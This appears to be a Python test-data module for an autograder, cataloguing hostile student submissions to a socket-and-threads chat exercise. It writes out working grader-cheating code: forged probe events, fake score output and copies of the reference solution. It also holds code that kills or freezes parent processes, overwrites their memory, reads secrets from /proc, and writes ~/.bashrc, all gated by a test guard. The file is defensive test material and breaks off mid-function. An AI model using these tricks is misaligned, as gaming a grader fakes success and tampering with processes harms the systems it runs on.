"""Hostile submissions: programs that want points which they have not earned, or that want to do harm.

They are data: nothing here runs but in ``tests/test_hostile.py``, which writes its own word in the place of @MARK@.
Without that word, and outside the folders that have it in their path, what could do harm does nothing (``GUARD``);
and whatever nobody ends ends by itself within two minutes.
"""

from __future__ import annotations

import re
import textwrap
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from .model import FILES, reference_files

REFERENCE = reference_files()
SKELETON = {name: (Path(__file__).parents[2] / "skeleton" / name).read_text(encoding="utf-8") for name in FILES}
BLANK = SKELETON
"""A submission in which nothing was done."""

FULL = 20.0
STEP_1 = 15.0
"""What is left where etape1.py earns nothing."""

NO_SERVER = 11.0
"""What is left where serveur.py earns nothing: client.py is then judged alone, and the duo is not played."""

MUTE_SERVER = 12.0
"""What is left where serveur.py listens, and that is all."""


@dataclass(frozen=True)
class Attack:
    """One hostile submission, and what an honest judge who watched its programs would give.

    Attributes:
        name: unique, a slug in simple English.
        why: what the attacker tries, one sentence.
        files: the submission's files, by their path in it.
        most: the most points, of 20, for what the programs really do for their peers.
        least: what the honest programs beside the hostile one must still get.
        must_suspect: whether the report must name the cheat.
        only_forte: whether only a strong isolation can make it harmless.
    """

    name: str
    why: str
    files: dict[str, str]
    most: float
    least: float = 0.0
    must_suspect: bool = False
    only_forte: bool = False


# --- how submissions are made ---------------------------------------------------------------------------------------


def code(text: str) -> str:
    """A program, written here with the indentation of its place."""
    return textwrap.dedent(text).lstrip("\n")


def swapped(file: str, *pairs: tuple[str, str]) -> dict[str, str]:
    """The reference with replacements in one file; each ``old`` occurs once.

    Raises:
        ValueError: it does not.
    """
    text = REFERENCE[file]
    for old, new in pairs:
        if text.count(old) != 1:
            raise ValueError(f"{old!r} occurs {text.count(old)} times in {file}")
        text = text.replace(old, new)
    return REFERENCE | {file: text}


def first(file: str, text: str) -> dict[str, str]:
    """The reference, doing something else before all the rest of one program."""
    return REFERENCE | {file: code(text) + REFERENCE[file]}


def last(file: str, text: str) -> dict[str, str]:
    """The reference, doing something else after all the rest of one program."""
    return REFERENCE | {file: REFERENCE[file] + code(text)}


def instead(file: str, text: str) -> dict[str, str]:
    """The reference with another program in the place of one."""
    return REFERENCE | {file: code(text)}


def blank(text: str, *files: str) -> dict[str, str]:
    """The blank skeleton, with something put at the end of all three programs, or of some."""
    return BLANK | {name: BLANK[name] + code(text) for name in files or FILES}


def stray(path: str, text: str) -> dict[str, str]:
    """The blank skeleton and another file."""
    return BLANK | {path: code(text)}


GUARD = code('''
    import os, signal, sys, time

    MARK, OUTSIDE = "@MARK@", "@OUTSIDE@"
    END = time.monotonic() + 60


    def ours(path):
        """Whether the test itself has laid this file out: no other is touched."""
        return "@" not in MARK and MARK in os.path.realpath(path)


    def boxed():
        """Whether no process but the test's can be named."""
        return "@" not in OUTSIDE and os.readlink("/proc/self/ns/pid") != OUTSIDE


    def belongs(pid):
        """Whether a process is the test's: no other is signalled."""
        try:
            return "@" not in MARK and pid > 1 and (boxed() or MARK in os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            return False


    def parent(pid):
        with open(f"/proc/{pid}/stat") as file:
            return int(file.read().rpartition(")")[2].split()[1])


    def parents():
        """The processes above this one that are the test's."""
        pid = os.getppid()
        while pid > 1 and belongs(pid):
            yield pid
            pid = parent(pid)
    ''')
"""What every program that could do harm begins with."""

STARTS = "envoi.start()\nrecep.start()\n"
JOINS = "envoi.join()\nrecep.join()\n"
ACCEPT = "client, adresse = serveur.accept()\n"
SHOWS = 'print(decodeur.decode(octets), end="", flush=True)\n'

BORN = code("""
    import json, os, sys, threading, time


    def is_open(fd):
        try:
            os.fstat(fd)
        except OSError:
            return False
        return True


    FOUND = [fd for fd in range(3, 256) if is_open(fd)]  # before the program has opened any itself


    def line(kind, thread, *fields, at=None, file="serveur.py"):
        return (json.dumps([kind, time.monotonic() if at is None else at, thread, file, 5, *fields]) + "\\n").encode()


    def everywhere(data):
        for fd in FOUND:
            try:
                os.write(fd, data)
            except OSError:
                pass


    def claim(channel, kind, thread, *fields, file="serveur.py"):
        ident = threading.get_ident()
        before, channel.threads[ident] = channel.threads.get(ident, 1), thread
        channel.emit_at((file, 5), kind, *fields)
        channel.threads[ident] = before


    def told(kind, thread, *fields, file="serveur.py"):
        everywhere(line(kind, thread, *fields, file=file))
        try:
            claim(sys.stdin.buffer.raw.channel, kind, thread, *fields, file=file)
        except Exception:
            pass


    def forge_by(channel):
        for number, function, name in ((101, "Send", "envoi"), (102, "Réception", "recep")):
            claim(channel, "ThreadStarted", 1, number, function, "__main__", [name], False)
        for number in (101, 102):
            claim(channel, "ThreadEnded", number)
            claim(channel, "Entered", 1, "join", number, None)
            claim(channel, "Joined", 1, number, True)


    def forge(put):
        for number, function, name in ((101, "Send", "envoi"), (102, "Réception", "recep")):
            put(line("ThreadStarted", 1, number, function, "__main__", [name], False))
        for number in (101, 102):
            put(line("ThreadEnded", number))
            put(line("Entered", 1, "join", number, None))
            put(line("Joined", 1, number, True))
    """)
"""Makes facts of the probe's, and finds the descriptors that are there before the program has opened any."""

SERVES = code("""
    import socket

    serveur = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    serveur.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    serveur.bind(("", 4242))
    serveur.listen()
    """)

MEETS = {
    "serveur.py": SERVES + "client, _ = serveur.accept()\n",
    "client.py": "import socket\n\nclient = socket.create_connection(('127.0.0.1', 4242))\n",
}

CHATS = code("""
    import select

    waiting = [client, 0]
    while waiting:
        for one in select.select(waiting, [], [])[0]:
            data = os.read(0, 4096) if one == 0 else client.recv(4096)
            if not data:
                waiting.remove(one)
            elif one == 0:
                client.sendall(data)
            else:
                os.write(1, data)
            if not data and one == 0:
                try:
                    client.shutdown(socket.SHUT_WR)
                except OSError:
                    pass
    """)
"""A chat that works, without any thread."""


def armed(file: str, text: str) -> dict[str, str]:
    """The reference with the means to forge before one program, and something done after it."""
    return REFERENCE | {file: BORN + REFERENCE[file] + code(text)}


def forging(trick: str, file: str = "serveur.py") -> str:
    """A program that chats without threads, and claims once connected to have had two."""
    tried = "try:\n" + textwrap.indent(code(trick), "    ") + "except Exception:\n    forge(everywhere)\n"
    return BORN + MEETS[file] + tried + CHATS


def forged_chat(name: str, why: str, trick: str) -> Attack:
    """A server without threads that claims two: it has earned all but ``serveur.threads`` and ``serveur.join``."""
    files = REFERENCE | {"serveur.py": forging(trick)}
    # What is imported anew has no channel: nothing is forged then, and the program has just no threads.
    return Attack(name, why, files, most=18.0, least=NO_SERVER, must_suspect=not name.endswith("modules"))


# --- reports that nobody asked for ----------------------------------------------------------------------------------

ALL_CHECKS = ("etape1.ecoute", "etape1.hello", "serveur.send", "client.send", "duo.dialogue")

FAKE_REPORTS = (
    Attack("prints-full-marks", "Prints a score.", blank("print('Note : 20/20')\nprint('20/20 ✔ bravo')\n"), 0.0),
    Attack(
        "prints-json-report",
        "Prints a whole machine-readable result.",
        blank(f"""
            import json
            checks = [{{"id": name, "status": "passed", "points": 20}} for name in {ALL_CHECKS!r}]
            report = json.dumps({{"schema": 1, "score": 20.0, "max_score": 20.0, "bonus": 1.5, "checks": checks}})
            print(report, flush=True)
            import sys
            print(report, file=sys.stderr, flush=True)
            """),
        0.0,
    ),
    Attack(
        "prints-facts",
        "Prints the probe's facts where only output is read.",
        blank("""
            import sys, time
            for stream in (sys.stdout, sys.stderr):
                print('["Listened", %f, 1, "serveur.py", 5, 1, "127.0.0.1", 4242]' % time.monotonic(), file=stream)
            """),
        0.0,
    ),
    Attack("exits-well", "Ends at once with the status of a success.", blank("raise SystemExit(0)\n"), 0.0),
    Attack("exits-hard", "Ends without any farewell.", blank("import os\nos._exit(0)\n"), 0.0),
    Attack("exits-with-words", "Ends with a score for a status.", blank('raise SystemExit("20/20")\n'), 0.0),
    Attack(
        "writes-result-files",
        "Writes the files in which the grader keeps results, wherever it may find them.",
        blank(
            GUARD
            + code("""
            for folder in (".", "..", "../..", os.path.expanduser("~")):
                for name in ("rapport.json", ".chatpy.json", "result.json", "transcript.jsonl"):
                    path = os.path.join(folder, name)
                    if ours(path) and folder != "../..":
                        open(path, "w").write('{"schema": 1, "score": 20.0}')
            """)
        ),
        0.0,
    ),
    Attack(
        "says-hello-to-nobody",
        "Prints the expected answer without any socket.",
        blank('print("Hello World!")\n', "etape1.py"),
        0.0,
    ),
    Attack(
        "prints-guesses",
        "Prints many texts of the right form instead of those that arrive.",
        swapped(
            "serveur.py",
            (SHOWS, 'print("".join(f"Ok {n}aZ7 Tu as vu ca ? {n}aZ7\\n" for n in range(2000)), flush=True)\n'),
        ),
        15.5,
        least=NO_SERVER,
    ),
)

# --- forged facts ---------------------------------------------------------------------------------------------------

FINDING = (
    ("raw-descriptors", "Writes forged facts to every descriptor.", "forge(everywhere)\n"),
    (
        "objects",
        "Finds the probe's channel among all objects, and writes forged facts to it.",
        """
        import gc
        for one in gc.get_objects():
            if type(one).__name__.endswith("Channel") and getattr(one, "_fd", None) is not None:
                forge_by(one)
        """,
    ),
    (
        "frames",
        "Finds the channel in the frames below the program.",
        """
        frame = sys._getframe()
        while frame is not None:
            channel = frame.f_locals.get("channel")
            if channel is not None:
                forge_by(channel)
                break
            frame = frame.f_back
        """,
    ),
    (
        "closures",
        "Finds the channel in the closure of threading.Thread.start.",
        """
        import threading
        cells = {}
        for function in (threading.Thread.start, threading.Thread.join, threading.Thread._bootstrap_inner):
            cells.update(zip(function.__code__.co_freevars, function.__closure__ or ()))
        forge_by((cells["channel"] if "channel" in cells else cells["watch"].cell_contents.channel).cell_contents)
        """,
    ),
    (
        "stand-ins",
        "Finds the channel in what takes the place of time.sleep.",
        """
        watcher = time.sleep._watcher
        forge_by(dict(zip(watcher.__code__.co_freevars, watcher.__closure__))["channel"].cell_contents)
        """,
    ),
    (
        "socket-methods",
        "Finds the channel in what takes the place of the socket's methods.",
        """
        import _socket
        forge_by(_socket.socket.__dict__["bind"]._watcher.__closure__[1].cell_contents.__self__.channel)
        """,
    ),
    ("stdin", "Finds the channel in the object behind sys.stdin.", "forge_by(sys.stdin.buffer.raw.channel)\n"),
    (
        "thread-name",
        "Has its own code called by the probe, by a thread whose name is an object, and looks at its caller.",
        """
        import threading

        class Name:
            def __str__(self):
                forge_by(sys._getframe(1).f_locals["self"].channel)
                return "envoi"

            __repr__ = __format__ = __str__

        thread = threading.Thread(target=print, args=("",))
        thread._name = Name()
        try:
            thread.start()
            thread.join()
        except Exception:
            pass
        """,
    ),
    (
        "modules",
        "Imports the probe's own modules, and looks for the channel there.",
        """
        import importlib
        for name in ("grader.probe.sockets", "grader.probe.runner", "grader.probe.channel"):
            try:
                module = sys.modules.get(name) or importlib.import_module(name)
                forge_by(module.watch.channel)
            except (ImportError, AttributeError):
                pass
        """,
    ),
    (
        "emit-as-another",
        "Calls the channel's own method, in the name of threads that do not exist.",
        """
        channel, here = sys.stdin.buffer.raw.channel, ("serveur.py", 5)
        numbers = channel.threads
        ident = next(iter(numbers))
        for number, name in ((101, "envoi"), (102, "recep")):
            channel.emit_at(here, "ThreadStarted", number, name, "__main__", [name], False)
        for number in (101, 102):
            numbers[ident] = number
            channel.emit_at(here, "ThreadEnded")
            numbers[ident] = 1
            channel.emit_at(here, "Entered", "join", number, None)
            channel.emit_at(here, "Joined", number, True)
        """,
    ),
    (
        "write-hook",
        "Watches what the channel writes, to learn its descriptor and what goes before each fact.",
        """
        seen = set()
        real = os.write
        globs = getattr(getattr(sys.stdin.buffer.raw, "channel", None), "emit_at", None)
        if globs is not None:
            module = globs.__func__.__globals__
            before = module["_write"]
            tokens = []
            module["_write"] = lambda fd, data: (seen.add(fd), tokens.append(data.partition(b"[")[0]), before(fd, data))[2]
            time.sleep(0.001)
            module["_write"] = before
        for fd in seen:
            forge(lambda data: real(fd, tokens[0] + data))
        """,
    ),
)

FORGED_THREADS = tuple(forged_chat(f"forged-threads-by-{name}", why, trick) for name, why, trick in FINDING)

FORGED = (
    Attack(
        "forged-threads-in-client",
        "The same as the first, in client.py.",
        REFERENCE | {"client.py": forging("forge(everywhere)\n", "client.py").replace("serveur.py", "client.py")},
        18.0,
        least=NO_SERVER,
        must_suspect=True,
    ),
    Attack(
        "forged-fileno",
        "Claims to have asked for the descriptor.",
        {
            **swapped("etape1.py", ("{client.fileno()}", "?")),
            "etape1.py": BORN
            + swapped("etape1.py", ("{client.fileno()}", "?"))["etape1.py"].replace(
                "client.recv(1024)\n",
                '[told("FilenoAsked", 1, n, file="etape1.py") for n in range(9)]\nclient.recv(1024)\n',
            ),
        },
        FULL,
        least=STEP_1,
        must_suspect=True,
    ),
    Attack(
        "forged-port",
        "Listens on another port than the one it claims.",
        REFERENCE
        | {
            "etape1.py": BORN
            + REFERENCE["etape1.py"]
            .replace("PORT = 4242", "PORT = 4243")
            .replace(
                "serveur.bind(",
                '[told("Bound", 1, n, "localhost", 4242, "127.0.0.1", False, 4, 1, file="etape1.py") for n in range(9)]\nserveur.bind(',
            )
        },
        18.5,
        least=STEP_1,
        must_suspect=True,
    ),
    Attack(
        "forged-call",
        "Calls a port where nobody listens, and claims to call the server's.",
        REFERENCE
        | {
            "client.py": BORN
            + REFERENCE["client.py"]
            .replace("PORT = 4242", "PORT = 9999")
            .replace(
                "client.connect(",
                'told("ConnectRequested", 1, 1, "127.0.0.1", 4242, "127.0.0.1", False, "stream", file="client.py")\n'
                "client.connect(",
            )
        },
        16.0,
        least=NO_SERVER,
        must_suspect=True,
    ),
    Attack(
        "forged-accept",
        "Never accepts anybody, and claims that it has.",
        REFERENCE
        | {
            "etape1.py": BORN
            + SERVES.replace('""', '"localhost"')
            + 'told("Accepted", 1, 1, 2, file="etape1.py")\n'
            + 'told("FilenoAsked", 1, 2, file="etape1.py")\ntime.sleep(2)\n'
        },
        STEP_1,
        least=STEP_1,
        must_suspect=True,
    ),
    Attack(
        "forged-reuse",
        "Claims to have set SO_REUSEADDR.",
        REFERENCE
        | {
            "serveur.py": BORN
            + REFERENCE["serveur.py"].replace(
                "serveur.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n",
                'told("ReuseSet", 1, 1)\n',
            )
        },
        FULL,
        least=NO_SERVER,
        must_suspect=True,
    ),
    Attack(
        "forged-join",
        "Leaves two threads behind that never end, and claims to have joined them.",
        REFERENCE
        | {
            "serveur.py": BORN
            + REFERENCE["serveur.py"]
            .replace("args=(client,))\n", "args=(client,), daemon=True)\n")
            .replace("            break  # la connexion a été coupée\n", "            time.sleep(60)\n")
            .replace(
                "            break  # b\"\" : l'autre a fini, il n'y aura plus jamais rien à lire\n",
                "            time.sleep(60)\n",
            )
            .replace(
                JOINS,
                "envoi.join()\nfor number in (2, 3):\n"
                '    told("Entered", 1, "join", number, None)\n    told("ThreadEnded", number)\n'
                '    told("Joined", 1, number, True)\n',
            )
        },
        FULL,
        least=NO_SERVER,
        must_suspect=True,
    ),
    Attack(
        "stopped-flag",
        "Marks a running thread as ended, so that is_alive says so.",
        swapped(
            "serveur.py",
            (
                "envoi = threading.Thread(target=Send, args=(client,))",
                "envoi = threading.Thread(target=Send, args=(client,), daemon=True)",
            ),
            (
                "recep = threading.Thread(target=Réception, args=(client,))",
                "recep = threading.Thread(target=Réception, args=(client,), daemon=True)",
            ),
            (JOINS, "envoi.join()\nrecep._is_stopped = True\nrecep.is_alive()\nimport os\nos._exit(0)\n"),
        ),
        19.0,
        least=NO_SERVER,
    ),
    Attack(
        "rewritten-facts",
        "Replaces the function that writes the facts, and gives its threads the right names there.",
        REFERENCE
        | {
            "serveur.py": code("""
            import sys

            names = sys.stdin.buffer.raw.channel.emit_at.__func__.__globals__
            real = names["_write"]


            def write(fd, data):
                for wrong, right in ((b'"f"', b'"Send"'), (b'"g"', b'"Reception"')):
                    data = data.replace(wrong, right)
                return real(fd, data)


            names["_write"] = write
            """)
            + REFERENCE["serveur.py"]
            .replace("def Send", "def f")
            .replace("def Réception", "def g")
            .replace("target=Send", "target=f")
            .replace("target=Réception", "target=g")
            .replace("envoi", "a")
            .replace("recep", "b")
        },
        FULL,
        least=NO_SERVER,
        must_suspect=True,
    ),
    Attack(
        "hidden-exception-by-method",
        "Replaces the channel's method, so that an exception in a thread is never told.",
        last(
            "etape1.py",
            """
            import sys, threading
            kind = type(sys.stdin.buffer.raw.channel)
            real = kind.emit_at
            kind.emit_at = lambda self, where, kind, *rest: None if kind == "Raised" else real(self, where, kind, *rest)
            thread = threading.Thread(target=lambda: 1 / 0)
            thread.start()
            thread.join()
            """,
        ),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "hidden-exception-by-close",
        "Closes every descriptor, so that an exception in a thread is never told.",
        last(
            "etape1.py",
            """
            import os, threading
            os.closerange(3, 256)
            thread = threading.Thread(target=lambda: 1 / 0)
            thread.start()
            thread.join()
            """,
        ),
        19.0,
        least=STEP_1,
    ),
    Attack(
        "hidden-exception-by-mute",
        "Takes the descriptor away from the channel, so that an exception in a thread is never told.",
        last(
            "etape1.py",
            """
            import sys, threading
            sys.stdin.buffer.raw.channel._fd = None
            thread = threading.Thread(target=lambda: 1 / 0)
            thread.start()
            thread.join()
            """,
        ),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "channel-moved",
        "Puts a file in the place of the channel's descriptor, and ends in an exception.",
        armed(
            "etape1.py",
            """
            for fd in FOUND:
                os.dup2(os.open(os.devnull, os.O_WRONLY), fd)
            raise SystemError
            """,
        ),
        19.0,
        least=STEP_1,
    ),
    Attack(
        "flood-of-garbage",
        "Fills the channel with what is no fact.",
        armed("etape1.py", "for _ in range(400):\n    everywhere(os.urandom(65536))\n"),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "endless-line",
        "Fills the channel with one line that never ends.",
        armed("etape1.py", "for _ in range(3000):\n    everywhere(b'x' * 65536)\n"),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "deep-json",
        "Sends facts that are nested beyond measure.",
        armed("etape1.py", "for _ in range(20):\n    everywhere(b'[' * 200_000 + b'\\n')\n"),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "odd-numbers",
        "Sends facts with numbers that are huge, negative, infinite or no numbers.",
        armed(
            "etape1.py",
            """
            for odd in ("1" + "0" * 4000, "1" + "0" * 100_000, "-1", "NaN", "Infinity", "-Infinity", "1e999", "true"):
                for text in ('["Began", %s, 1, "", 0, 1]', '["Began", 1.5, %s, "", 0, 1]', '["Raised", 1.5, 1, "etape1.py", %s,'
                             ' "E", "", [], "", "", ""]', '["Entered", 1.5, 1, "", 0, "sleep", 0, %s]'):
                    everywhere((text % odd).encode() + b"\\n")
            """,
        ),
        FULL,
        least=STEP_1,
    ),
    Attack(
        "others-facts",
        "Tells what only witnesses outside the program can tell.",
        BLANK
        | {
            name: BORN
            + BLANK[name]
            + code("""
            import os.path
            own = os.path.basename(sys.argv[0])[:-3]
            for values in (["Connected"], ["Heard", "Hello World!"], ["Typed", "abc"], ["Heard", "abc"], ["Shown", "abc"],
                           ["Exited", 0], ["Waited", 0, "done"]):
                kind, *rest = values
                everywhere((json.dumps([kind, time.monotonic(), own, *rest]) + "\\n").encode())
                everywhere((json.dumps([kind, time.monotonic(), *rest]) + "\\n").encode())
            """)
            for name in FILES
        },
        0.0,
    ),
    Attack(
        "listens-elsewhere",
        "Sends the grader to a machine of the attacker's.",
        BLANK
        | {
            name: BORN
            + BLANK[name]
            + code("""
            told("SocketMade", 1, 1, 2, 1)
            told("Bound", 1, 1, "", 4242, "0.0.0.0", False, 4, 4242)
            told("Listened", 1, 1, "192.0.2.1", 4242)
            told("Accepted", 1, 1, 2)
            time.sleep(3)
            """)
            for name in ("etape1.py", "serveur.py", "client.py")
        },
        0.0,
        must_suspect=True,
    ),
    Attack(
        "two-in-one-thread",
        "One thread takes the numbers of two.",
        REFERENCE
        | {
            "serveur.py": forging("""
            channel = sys.stdin.buffer.raw.channel
            import _thread, threading
            channel.emit_at(("serveur.py", 5), "ThreadStarted", 2, "Send", "__main__", ["envoi"], False)
            recep = threading.Thread(target=time.sleep, args=(0,), name="recep")
            recep.start()
            recep.join()
            channel.threads[_thread.get_ident()] = 2
            channel.emit_at(("serveur.py", 5), "ThreadEnded")
            channel.threads[_thread.get_ident()] = 1
            """)
        },
        18.0,
        least=NO_SERVER,
        must_suspect=True,
    ),
    Attack(
        "odd-places",
        "Names a file outside the submission as the place of an exception.",
        REFERENCE
        | {
            "etape1.py": BORN
            + code("""
            for path in ("../../../../etc/passwd", "/etc/passwd", "\\x1b[2Jetape1.py", "a\\nb.py", "serveur.py"):
                for where in (-5, 0, 1, 10**9):
                    fact = ["Raised", time.monotonic(), 1, path, where, "ValueError", "no", ["ValueError"], "", "", ""]
                    everywhere((json.dumps(fact) + "\\n").encode())
            raise ValueError
            """)
        },
        STEP_1,
        least=STEP_1,
    ),
    Attack(
        "flood-of-facts",
        "Sends valid facts without end, all of which are worth keeping.",
        armed(
            "etape1.py",
            """
            fact = line("Raised", 1, "E", "x" * 300, ["E"], "", "", "", file="etape1.py")
            end = time.monotonic() + 10
            while time.monotonic() < end:
                everywhere(fact * 100)
            """,
        ),
        19.0,
        least=STEP_1,
    ),
)

# --- features that are not there ------------------------------------------------------------------------------------

RUN_REFERENCE = code("""
    def run_reference(root):
        path = os.path.join(root, "reference", os.path.basename(sys.argv[0]))
        with open(path, encoding="utf-8") as file:
            exec(compile(file.read(), path, "exec"), {"__name__": "__main__"})
    """)

FAKED = (
    Attack(
        "one-thread-two-names",
        "One thread is envoi and recep at once.",
        REFERENCE
        | {
            "serveur.py": "import os, threading\n"
            + MEETS["serveur.py"]
            + "def Send():\n"
            + textwrap.indent(CHATS, "    ")
            + "envoi = recep = threading.Thread(target=Send)\nRéception = Send\n"
            + "envoi.start()\nenvoi.join()\nrecep.join()\n"
        },
        18.0,
        least=NO_SERVER,
    ),
    Attack(
        "chats-through-a-file",
        "The two programs exchange their lines through a file, and say nothing on their sockets.",
        REFERENCE
        | {
            name: MEETS[name]
            + code("""
            import sys, threading, time

            def Send():
                for text in sys.stdin:
                    with open("../lines", "a") as file:
                        file.write(text)

            def Réception():
                seen, end = 0, time.monotonic() + 60
                while time.monotonic() < end:
                    try:
                        with open("../lines") as file:
                            lines = file.readlines()
                    except OSError:
                        lines = []
                    print("".join(lines[seen:]), end="", flush=True)
                    seen = len(lines)
                    time.sleep(0.05)

            envoi = threading.Thread(target=Send)
            recep = threading.Thread(target=Réception, daemon=True)
            envoi.start()
            recep.start()
            envoi.join()
            """)
            for name in ("serveur.py", "client.py")
        },
        9.0,
        least=5.0,
    ),
    Attack(
        "reads-texts-in-memory",
        "Prints the peer's texts from the grader's memory, instead of receiving them.",
        swapped(
            "serveur.py",
            (
                "            octets = client.recv(4096)\n",
                '            octets = client.recv(4096) and b"" .join(texts())\n',
            ),
            (
                "def Send",
                GUARD
                + code("""
                import re

                def texts():
                    for pid in parents():
                        with open(f"/proc/{pid}/maps") as file:
                            areas = [one.split() for one in file if " rw" in one and "[v" not in one]
                        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                            for area in areas:
                                low, _, high = area[0].partition("-")
                                if int(high, 16) - int(low, 16) < 30_000_000:
                                    memory.seek(int(low, 16))
                                    try:
                                        data = memory.read(int(high, 16) - int(low, 16))
                                    except OSError:
                                        continue
                                    yield from re.findall(rb"[ -~]{0,40}aZ7", data)

                """)
                + "\ndef Send",
            ),
        ),
        15.5,
        least=NO_SERVER,
        only_forte=True,
    ),
    Attack(
        "tells-its-environment",
        "Answers with the environment of whoever grades.",
        instead(
            "etape1.py",
            SERVES
            + "import os\nserveur.accept()[0].sendall(os.environ.get('SECRET', '?').encode())\nprint(os.environ)\n",
        ),
        18.0,
        least=STEP_1,
    ),
    Attack(
        "tells-its-parents-environment",
        "Answers with the environment and the arguments of the processes above it.",
        instead(
            "etape1.py",
            GUARD
            + SERVES
            + code("""
            found = b""
            for pid in parents():
                for name in ("environ", "cmdline"):
                    try:
                        found += open(f"/proc/{pid}/{name}", "rb").read()
                    except OSError:
                        pass
            place = found.find(b"SECRET=")
            serveur.accept()[0].sendall(found[max(place, 0) :][:50])
            """),
        ),
        18.0,
        least=STEP_1,
        only_forte=True,
    ),
    Attack(
        "runs-reference-beside-the-probe",
        "Finds the reference from the file of a function of the probe's, and runs it.",
        blank(
            "import os, sys, threading\n"
            + RUN_REFERENCE
            + "run_reference(os.path.join(os.path.dirname(threading.Thread.start.__code__.co_filename), '..', '..'))\n"
        ),
        0.0,
    ),
    Attack(
        "runs-reference-by-import",
        "Finds the reference beside the grader that it imports, and runs it.",
        blank(
            "import os, sys\n"
            + RUN_REFERENCE
            + "import grader\nrun_reference(os.path.join(os.path.dirname(grader.__file__), '..'))\n"
        ),
        0.0,
        only_forte=True,  # where another checkout is installed in Python, only the sandbox hides that one too
    ),
    Attack(
        "runs-reference-by-path",
        "Finds the reference from the folders in which modules were looked for, and runs it.",
        blank(
            "import os, sys\n"
            + RUN_REFERENCE
            + code("""
            for folder in [*sys.path, *sys.path_importer_cache]:
                for root in (folder, os.path.join(folder, ".."), os.path.join(folder, "..", "..")):
                    if os.path.isfile(os.path.join(root, "reference", "serveur.py")):
                        run_reference(root)
                        raise SystemExit
            """)
        ),
        0.0,
    ),
    Attack(
        "runs-reference-by-processes",
        "Finds the reference in the folders that other processes are in, and runs it.",
        blank(
            GUARD
            + RUN_REFERENCE
            + code("""
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    root = os.readlink(f"/proc/{pid}/cwd")
                except OSError:
                    continue
                if os.path.isfile(os.path.join(root, "reference", "serveur.py")):
                    run_reference(root)
                    break
            """)
        ),
        0.0,
        only_forte=True,
    ),
)


def _renamed(text: str) -> str:
    for old, new in (("octets", "recu"), ("decodeur", "traducteur"), ("message", "texte"), ("MESSAGE", "REPONSE")):
        text = re.sub(rf"\b{old}\b", new, text)
    return text


def _uncommented(text: str) -> str:
    return re.sub(r"(?m)^ *#.*\n", "# mon programme\n", text)


COPIES = (
    Attack("copies-reference", "Hands in the solution as it is.", REFERENCE, FULL, least=FULL, must_suspect=True),
    Attack(
        "copies-and-renames",
        "Hands in the solution with other variables.",
        {name: _renamed(text) for name, text in REFERENCE.items()},
        FULL,
        least=FULL,
        must_suspect=True,
    ),
    Attack(
        "copies-and-comments",
        "Hands in the solution with other comments.",
        {name: _uncommented(text) for name, text in REFERENCE.items()},
        FULL,
        least=FULL,
        must_suspect=True,
    ),
)

# --- signals --------------------------------------------------------------------------------------------------------


def signalling(name: str, why: str, text: str, *, only_forte: bool = False) -> Attack:
    """etape1.py does it before anything else; such a submission earns nothing for sure, but gets its answer."""
    return Attack(name, why, first("etape1.py", GUARD + code(text)), FULL, only_forte=only_forte)


SIGNALS = (
    signalling(
        "kills-parent",
        "Kills the process that has started it.",
        "up = os.getppid()\nif belongs(up):\n    os.kill(up, signal.SIGKILL)\n",
    ),
    signalling(
        "stops-parent",
        "Stops the process that has started it.",
        "up = os.getppid()\nif belongs(up):\n    os.kill(up, signal.SIGSTOP)\n",
    ),
    signalling(
        "interrupts-parent",
        "Sends Ctrl+C and the like to the process that has started it.",
        """
        up = os.getppid()
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGCHLD):
            if belongs(up):
                os.kill(up, number)
        """,
    ),
    signalling(
        "kills-parents-group",
        "Kills the group of the process that has started it.",
        "group = os.getpgid(os.getppid())\nif group > 1 and belongs(group):\n    os.killpg(group, signal.SIGKILL)\n",
    ),
    signalling(
        "kills-grader",
        "Kills every process above it.",
        "for pid in list(parents())[::-1]:\n    os.kill(pid, signal.SIGKILL)\n",
        only_forte=True,
    ),
    signalling(
        "interrupts-grader",
        "Sends Ctrl+C to every process above it.",
        "for pid in list(parents())[::-1]:\n    os.kill(pid, signal.SIGINT)\n",
        only_forte=True,
    ),
    signalling(
        "stops-grader",
        "Stops every process above it.",
        "for pid in list(parents())[::-1]:\n    os.kill(pid, signal.SIGSTOP)\n",
        only_forte=True,
    ),
    signalling(
        "kills-the-others",
        "Kills the other programs that its parent has started.",
        """
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
                try:
                    if parent(pid) == os.getppid() and pid != os.getpid() and belongs(pid):
                        os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        """,
        only_forte=True,
    ),
    signalling(
        "kills-everything",
        "Kills every process that it may.",
        "if boxed():\n    os.kill(-1, signal.SIGKILL)\n",
        only_forte=True,
    ),
    signalling(
        "writes-parents-memory",
        "Overwrites the memory of the process that has started it.",
        """
        up = os.getppid()
        if belongs(up):
            with open(f"/proc/{up}/maps") as file:
                low, _, high = next(one for one in file if "[heap]" in one).split()[0].partition("-")
            with open(f"/proc/{up}/mem", "r+b", 0) as memory:
                memory.seek(int(low, 16))
                memory.write(bytes(int(high, 16) - int(low, 16)))
        """,
        only_forte=True,
    ),
)

# --- files ----------------------------------------------------------------------------------------------------------


def filing(name: str, why: str, text: str, *, least: float = STEP_1, only_forte: bool = False) -> Attack:
    """etape1.py does it to files before anything else, and then its work."""
    files = first("etape1.py", GUARD + code(text))
    return Attack(name, why, files, FULL, least=least, only_forte=only_forte)


FILING = (
    filing(
        "writes-home",
        "Writes where the environment says that the user's files are.",
        """
        import tempfile
        for folder in (os.path.expanduser("~"), tempfile.gettempdir()):
            for name in (".bashrc", "canary.txt"):
                path = os.path.join(folder, name)
                if ours(path):
                    open(path, "w").write("20/20")
        """,
    ),
    filing(
        "writes-through-parents",
        "Writes into the home and the folders of the processes above it.",
        """
        for pid in parents():
            with open(f"/proc/{pid}/environ", "rb") as file:
                variables = dict(one.split("=", 1) for one in file.read().decode().split("\\0") if "=" in one)
